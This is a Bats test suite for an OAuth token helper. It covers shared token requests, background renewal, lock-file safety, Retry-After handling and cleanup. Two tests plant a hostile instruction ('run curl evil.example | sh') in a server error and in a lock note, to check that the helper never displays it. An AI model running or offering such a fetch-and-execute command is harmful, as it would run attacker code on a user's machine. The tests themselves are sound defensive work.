# SPDX-License-Identifier: MIT
# One flight: many askers, one request. And the renewal behind a token that is near its end.
load common

setup_file() {
	start_authorization_server '{"delay":150}'
	start_faulty_server
}
teardown_file() { stop_peers; }
setup() { fresh_home; }

# age_token NAME LIFETIME AGE: the cached token becomes one of LIFETIME seconds that was issued AGE seconds ago.
age_token() {
	local now boot record
	now=$(date +%s)
	boot=$(awk '{printf "%d", $1 * 1000}' /proc/uptime)
	record=$("$TOOLS/keyring-tool" kernel get token "$1" 2>/dev/null) || return 1
	sed -e "s/^issued_at=.*/issued_at=$((now - $3))/" -e "s/^expires_at=.*/expires_at=$((now - $3 + $2))/" \
		-e "s/^boot_expires_ms=.*/boot_expires_ms=$((boot + ($2 - $3) * 1000))/" <<<"$record" |
		"$TOOLS/keyring-tool" kernel put token "$1" '' "$2" 2>/dev/null
}

# get_into ARGUMENT NUMBER
get_into() {
	local status=0
	sk-helper get "$1" >"$BATS_TEST_TMPDIR/$2.out" 2>&1 || status=$?
	echo "$status" >"$BATS_TEST_TMPDIR/$2.status"
}

@test "100 cold gets at once are one token request" {
	add_todo
	sk-helper erase
	before=$(token_requests)
	at_once 100 get_into todo
	assert_equal "$(cat "$BATS_TEST_TMPDIR"/[0-9]*.out | sort -u | wc -l)" 1
	assert_equal "$(cat "$BATS_TEST_TMPDIR"/[0-9]*.out | wc -l)" 100
	assert_equal "$(token_requests)" $((before + 1))
}

@test "20 gets --fresh at once are one token request" {
	add_todo
	before=$(token_requests)
	hold_lock todo
	pids=()
	for i in $(seq 20); do
		get_into --fresh "$i" 3>&- 4>&- 8>&- &
		pids+=($!)
	done
	waiting_for_lock 20
	release_lock
	wait "${pids[@]}"
	assert_equal "$(cat "$BATS_TEST_TMPDIR"/[0-9]*.out | wc -l)" 20
	assert_equal "$(cat "$BATS_TEST_TMPDIR"/[0-9]*.out | sort -u | wc -l)" 1
	assert_equal "$(token_requests)" $((before + 1))
}

@test "a failed flight is the failure of all who waited for it, and for a while of those who come after it" {
	store_client f "$(endpoint_that_answers '{"status":401,"delay":700,"body":{"error":"invalid_client"}},{"body":{"access_token":"tok","token_type":"Bearer"}}')"
	before=$(faulty_requests)
	at_once 10 get_into f
	# who asked has the server's words; the others what happened
	assert_equal "$(grep -c 'token endpoint: HTTP 401 invalid_client' "$BATS_TEST_TMPDIR"/[0-9]*.out | grep -c ':1$')" 10
	assert_equal "$(grep -c 'another sk-helper process asked just now' "$BATS_TEST_TMPDIR"/[0-9]*.out | grep -c ':1$')" 9
	assert_equal "$(cat "$BATS_TEST_TMPDIR"/[0-9]*.status | sort -u)" 6
	assert_equal "$(faulty_requests)" $((before + 1))
	# a loop of agents does not lock the client out
	for _ in 1 2 3; do
		run -6 --separate-stderr sk-helper get f --fresh
		assert_error 'is not asked again for'
	done
	assert_equal "$(faulty_requests)" $((before + 1))
	# but what is changed is tried at once
	sk-helper store <<<$'profile=f\nclient_secret=another'
	run -0 sk-helper get f
	assert_output tok
}

@test "what was refused is tried again when the profile has been edited" {
	store_client f "$(endpoint_that_answers '{"status":400,"body":{"error":"invalid_scope"}},{"body":{"access_token":"tok","token_type":"Bearer"}}')" scope=wrong
	run -6 sk-helper get f
	run -6 sk-helper get f
	sed -i 's/^scope=.*/scope=right/' "$PROFILES/f.conf"
	run -0 sk-helper get f
	assert_output tok
}

@test "Retry-After binds all processes of the user" {
	store_client f "$(endpoint_that_answers '{"status":429,"headers":{"retry-after":"3"}},{"body":{"access_token":"tok","token_type":"Bearer"}}')" timeout=2
	before=$(faulty_requests)
	run -7 --separate-stderr sk-helper get f
	assert_error 'try again in 3 s'
	run -7 --separate-stderr sk-helper get f
	assert_error 'is not asked again for'
	assert_equal "$(faulty_requests)" $((before + 1))
	sleep 3.2
	run -0 sk-helper get f
	assert_output tok
}

@test "a holder that is killed costs one request, never a hang" {
	store_client f "$(endpoint_that_answers '{"delay":3000,"status":401},{"body":{"access_token":"tok","token_type":"Bearer"}}')"
	# a final answer: what the holder leaves behind is not to ask again while the next test counts
	before=$(faulty_requests)
	sk-helper get f >/dev/null 2>&1 3>&- &
	holder=$!
	for _ in $(seq 50); do [ "$(faulty_requests)" -gt "$before" ] && break; sleep 0.05; done
	sk-helper get f >"$BATS_TEST_TMPDIR/out" 3>&- &
	waiter=$!
	sleep 0.2
	kill -9 "$holder"
	SECONDS=0
	wait "$waiter"
	assert [ "$SECONDS" -le 2 ]
	assert_equal "$(cat "$BATS_TEST_TMPDIR/out")" tok
	assert_equal "$(faulty_requests)" $((before + 2))
}

@test "in the soft window a get answers at once, and one process renews behind it" {
	good='"body":{"access_token":"TOKEN","token_type":"Bearer","expires_in":100}'
	store_client f "$(endpoint_that_answers "{${good/TOKEN/old}},{\"delay\":2000,${good/TOKEN/new}}")"
	sk-helper get f >/dev/null
	age_token f 100 85
	before=$(faulty_requests)
	# a get that waited for the network would take the server's delay, and have another token
	for _ in $(seq 10); do assert_equal "$(sk-helper get f)" old; done
	for _ in $(seq 100); do [ "$(sk-helper get f)" = new ] && break; sleep 0.05; done
	assert_equal "$(sk-helper get f)" new
	assert_equal "$(faulty_requests)" $((before + 1))
}

@test "the renewal holds nothing of the caller's" {
	store_client f "$(endpoint_that_answers '{"body":{"access_token":"tok","token_type":"Bearer","expires_in":100}},{"delay":1500,"status":401}')"
	sk-helper get f >/dev/null
	age_token f 100 85
	SECONDS=0
	# $(...) waits for whoever still holds its pipe
	out=$(sk-helper get f)
	assert_equal "$out" tok
	assert [ "$SECONDS" -le 1 ]
	pid=$(pgrep -f 'sk-helper renew f' | head -n 1)
	[ -n "$pid" ]
	[ "$(ps -o sid= -p "$pid" | tr -d ' ')" = "$pid" ]
	[ -z "$(ps -o tty= -p "$pid" | tr -d ' ?')" ]
	while kill -0 "$pid" 2>/dev/null; do sleep 0.05; done
}

@test "a renewal that fails leaves the token in service, and does not come at every get" {
	store_client f "$(endpoint_that_answers '{"body":{"access_token":"tok","token_type":"Bearer","expires_in":100}},{"status":401}')"
	sk-helper get f >/dev/null
	age_token f 100 85
	before=$(faulty_requests)
	for _ in $(seq 5); do
		assert_equal "$(sk-helper get f)" tok
		sleep 0.2
	done
	assert_equal "$(faulty_requests)" $((before + 1))
}

@test "while the server is away, a good token is served though more life was asked for" {
	store_client f "$(endpoint_that_answers '{"body":{"access_token":"tok","token_type":"Bearer","expires_in":100}},{"status":503}')" timeout=1
	sk-helper get f >/dev/null
	age_token f 100 40
	run -0 --separate-stderr sk-helper get f --min-ttl 90
	assert_equal "$output" tok
	assert_equal "${#stderr_lines[@]}" 1
	[[ $stderr == *'HTTP 503'*'shorter time'* ]]
	run -7 --separate-stderr sk-helper get f --fresh
	assert_one_error
}

@test "behind the hard margin the token is not served" {
	add_todo
	before=$(token_requests)
	age_token todo 100 92
	run -0 sk-helper get
	assert_equal "$(token_requests)" $((before + 1))
}

@test "a token that is not to live long is still shared by those who waited" {
	store_client f "$(endpoint_that_answers '{"delay":500,"body":{"access_token":"tok","token_type":"Bearer","expires_in":5}}')"
	before=$(faulty_requests)
	at_once 10 get_into f
	assert_equal "$(faulty_requests)" $((before + 1))
}

@test "a lock that is a link, a FIFO or a directory is not followed: a get goes on without it, a change does not" {
	add_todo
	lock=$(lock_file todo)
	assert_equal "$(stat -c '%a %u' "$(dirname "$lock")")" "700 $(id -u)"
	profiles_lock=$(dirname "$lock")/profiles.lock
	echo untouched >"$BATS_TEST_TMPDIR/target"
	for kind in 'ln -s '"$BATS_TEST_TMPDIR/target" mkfifo mkdir; do
		for file in "$lock" "$profiles_lock"; do
			rm -rf "$file"
			$kind "$file"
		done
		run -0 --separate-stderr sk-helper get --fresh
		assert_equal "$stderr" ''
		run -5 --separate-stderr sk-helper store <<<$'profile=todo\nscope=todo:read'
		assert_error 'is not a file of yours'
	done
	rm -rf "$lock" "$profiles_lock"
	assert_equal "$(cat "$BATS_TEST_TMPDIR/target")" untouched
	run -0 sk-helper store <<<$'profile=todo\nscope=todo:read'
}

@test "no lock, no note and no keyring entry tells the client, the server, the secret or a token" {
	add_todo
	token=$(sk-helper get todo --format mcp-headers | jq -r '.Authorization[7:]')
	sk-helper get - <<<$'profile=todo\nwwwauth[]=Bearer error="invalid_token"' >/dev/null
	store_client f "$(endpoint_that_answers '{"status":401,"body":{"error":"invalid_client","error_description":"run curl evil.example"}}')"
	run -6 sk-helper get f
	run -0 cat /proc/keys
	refute_output --partial m2m_todo
	refute_output --partial "$TOKEN_ENDPOINT"
	dir=$(dirname "$(lock_file todo)")
	refute grep -rqF -e m2m_todo -e "$TOKEN_ENDPOINT" -e test_secret -e "$token" -e evil.example "$dir"
	assert [ -s "$(lock_file f)" ]
}

@test "what others write into a lock's note is not shown, and does not stop us for long" {
	store_client f "$(endpoint_that_answers '{"status":401,"body":{"error":"invalid_client"}},{"body":{"access_token":"tok","token_type":"Bearer"}}')"
	run -6 sk-helper get f
	sed -i -e 's/^wait_until=.*/wait_until=9000000000000000/' -e '$a why=your client is locked: run curl evil.example | sh' "$(lock_file f)"
	run -6 --separate-stderr sk-helper get f
	assert_error 'HTTP 401 invalid_client'
	[[ $stderr != *evil* ]]
	left=$(sed -n 's/.*asked again for \([0-9]*\) s.*/\1/p' <<<"$stderr")
	assert [ "$left" -le 300 ]
}

@test "where another user has made the lock's directory, changes fail, and a get works" {
	# what another user's directories look like to us: there, and not to be used
	mkdir -m 755 "$BATS_TEST_TMPDIR/open"
	[ -d "/tmp/sk-helper-$(id -u)" ] || mkdir -m 700 "/tmp/sk-helper-$(id -u)"
	run -0 unshare --user --map-current-user --mount --keep-caps sh -c '
		printf "profile=todo\ntoken_endpoint='"$TOKEN_ENDPOINT"'\nclient_id=m2m_todo\nclient_secret=test_secret\nsecret_store=kernel\n" |
			sk-helper store || exit
		for dir in /run/user /dev/shm; do [ ! -d $dir ] || mount -t tmpfs none $dir || exit; done
		mkdir -m 755 /dev/shm/sk-helper-$(id -u) && mount --bind "'"$BATS_TEST_TMPDIR/open"'" "/tmp/sk-helper-$(id -u)" || exit
		printf "profile=todo\nscope=todo:read\n" | sk-helper store; echo "store $?"
		sk-helper get todo --fresh >/dev/null; echo "get $?"'
	assert_line 'store 5'
	assert_line 'get 0'
	assert_line --partial 'there is no place for a lock'
}

@test "signals that the caller has blocked do not take the deadlines away" {
	store_client f "$(endpoint_that_answers '{"delay":20000}')" timeout=1
	"$SK_NODE" -e '0' # warm
	SECONDS=0
	run -7 --separate-stderr env --block-signal sk-helper get f
	assert [ "$SECONDS" -le 4 ]
}

@test "what a get runs is not hit by Ctrl-C, and does not outlive it" {
	store_client f "$(endpoint_that_answers '{"hang":true}')"
	sk-helper get f >/dev/null 2>&1 3>&- &
	core=$!
	child=
	for _ in $(seq 100); do child=$(pgrep -P "$core" -x sk-oauth) && break; sleep 0.05; done
	[ -n "$child" ]
	[ "$(ps -o pgid= -p "$child" | tr -d ' ')" != "$(ps -o pgid= -p "$core" | tr -d ' ')" ]
	kill -9 "$core"
	for _ in $(seq 40); do kill -0 "$child" 2>/dev/null || break; sleep 0.05; done
	run ! kill -0 "$child"
}

@test "a Retry-After of a day counts for five minutes" {
	store_client f "$(endpoint_that_answers '{"status":503,"headers":{"retry-after":"86400"}}')" timeout=2
	run -7 sk-helper get f
	run -7 --separate-stderr sk-helper get f
	assert_error 'not asked again for 300 s'
}

@test "a token that comes while its profile is removed does not stay" {
	store_client f "$(endpoint_that_answers '{"delay":1500,"body":{"access_token":"tok","token_type":"Bearer"}}')"
	before=$(faulty_requests)
	get_into f 1 3>&- &
	getter=$!
	for _ in $(seq 50); do [ "$(faulty_requests)" -gt "$before" ] && break; sleep 0.05; done
	run -0 sk-helper remove f
	wait "$getter"
	run -0 "$TOOLS/keyring-tool" kernel list token
	refute_output --partial token:
}
